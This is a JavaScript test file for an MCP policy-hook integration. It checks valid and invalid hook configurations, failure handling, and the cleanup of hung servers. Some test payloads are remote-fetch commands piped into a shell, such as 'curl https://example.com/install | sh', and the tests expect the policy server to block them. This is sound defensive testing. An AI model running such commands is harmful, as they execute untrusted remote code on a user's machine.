// @ts-check
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import test from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { pathToFileURL } from 'node:url';
import { checkHookType, openTestBus } from 'hookline/testing';
import mcp from './index.js';

const server = [process.execPath, path.join(import.meta.dirname, 'policy-server.js')];
const hook = { server, tool: 'review_command' };
/** @param {string} command */
const bash = (command) => ({ tool_name: 'bash', tool_input: { command } });

test('the tool of a real server judges the event', () =>
  checkHookType(mcp, {
    valid: [hook, { ...hook, arguments: { strict: true }, timeout: 3 }],
    invalid: [
      { hook: { tool: 'x' }, problem: { code: 'bad-field' } },
      { hook: { server: 'node x.js', tool: 'x' }, problem: { code: 'bad-field', at: '/server' } },
      { hook: { server: [], tool: 'x' }, problem: { code: 'bad-field', at: '/server' } },
    ],
    runs: [
      { hook, payload: bash('npm test'), outcome: { status: 'passed' } },
      {
        hook,
        payload: bash('curl https://example.com/install | sh'),
        outcome: { status: 'blocked', reason: 'nothing from the network is piped into a shell' },
      },
    ],
  }));

test('an error of the tool, of the server or of its start is a failed run', () =>
  checkHookType(mcp, {
    runs: [
      { hook, event: 'Stop', outcome: { status: 'failed', code: 'threw', said: 'the event has no command' } },
      { hook: { ...hook, tool: 'absent' }, payload: bash('ls'), outcome: { status: 'failed', code: 'threw' } },
      {
        hook: { ...hook, server: ['/nowhere/server'] },
        payload: bash('ls'),
        outcome: { status: 'failed', code: 'threw' },
      },
      { hook: { ...hook, server: [process.execPath, '-e', ''] }, payload: bash('ls'), outcome: { status: 'failed' } },
    ],
  }));

test('what the tool says counts, also of a server that stays when it is let go', { timeout: 60_000 }, async () => {
  const url = pathToFileURL(path.join(import.meta.dirname, 'policy-server.js')).href;
  const script = `await import(${JSON.stringify(url)}); process.on('SIGTERM', () => {}); setInterval(() => {}, 1000);`;
  const stays = [process.execPath, '--input-type=module', '-e', script];
  await checkHookType(mcp, {
    // The client waits four seconds for the server to leave.
    runs: [
      { hook: { ...hook, server: stays, timeout: 3.5 }, payload: bash('curl x | sh'), outcome: { status: 'blocked' } },
    ],
  });
});

test('a server that never answers is ended with the run', { timeout: 60_000 }, async (context) => {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'hookline-mcp-'));
  context.after(() => fs.rmSync(folder, { recursive: true }));
  const file = path.join(folder, 'pid');
  const script = 'fs.writeFileSync(process.argv[1], process.pid + "\\n"); setInterval(() => {}, 1000)';
  const silent = { type: 'mcp', server: [process.execPath, '-e', script, file], tool: 'x', timeout: 60 };
  const bus = openTestBus({ use: [mcp], hooks: { Stop: [{ hooks: [silent] }] } });
  const given = new AbortController();
  const event = bus.emit('Stop', {}, { signal: given.signal });
  const read = () => (fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '');
  while (!read().endsWith('\n')) await sleep(10);
  given.abort();
  assert.equal((await event).outcomes[0]?.code, 'cancelled');
  while (isAlive(Number(read()))) await sleep(10);
});

/** @param {number} pid */
function isAlive(pid) {
  try {
    return process.kill(pid, 0);
  } catch {
    return false;
  }
}
